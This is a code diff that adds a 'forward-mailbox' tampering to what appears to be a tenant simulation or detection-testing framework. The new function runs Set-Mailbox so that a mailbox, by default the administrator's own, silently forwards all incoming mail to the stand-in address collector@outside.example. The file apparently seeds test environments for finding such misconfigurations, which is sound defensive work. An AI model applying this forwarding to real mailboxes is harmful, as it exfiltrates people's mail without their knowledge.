@@ -13,6 +13,7 @@ if TYPE_CHECKING:
 
 _POLICY = "HostedOutboundSpamFilterPolicy"
 _PARTNER = "Partner"
+_COLLECTOR = "collector@outside.example"
 
 
 def allow_forwarding(tenant: Tenant, *, policy: str | None = None) -> str:
@@ -47,12 +48,35 @@ def forward_to_partner(tenant: Tenant) -> str:
     return f"{actor.user_principal_name} made the remote domain '{_PARTNER}', to which mail may be forwarded."
 
 
+def forward_mailbox(tenant: Tenant, *, mailbox: str | None = None) -> str:
+    """Have a mailbox forward what it gets to an address outside.
+
+    Args:
+        tenant: where.
+        mailbox: user principal name, by default the administrator's own.
+
+    Raises:
+        TamperingError: there is no such mailbox.
+    """
+    actor = administrator(tenant)
+    name = mailbox or actor.user_principal_name
+    given = {"Identity": name, "ForwardingSmtpAddress": _COLLECTOR, "DeliverToMailboxAndForward": True}
+    run(tenant, actor, "Set-Mailbox", given)
+    return f"{actor.user_principal_name} had {name} forward to {_COLLECTOR}."
+
+
 TAMPERINGS = (
     Tampering(
         "allow-forwarding",
         "The administrator has an outbound spam filter policy let forwarded mail out.",
         allow_forwarding,
         ("policy",),
+    ),
+    Tampering(
+        "forward-mailbox",
+        "The administrator has a mailbox forward to an address outside.",
+        forward_mailbox,
+        ("mailbox",),
     ),
     Tampering(
         "forward-to-partner",
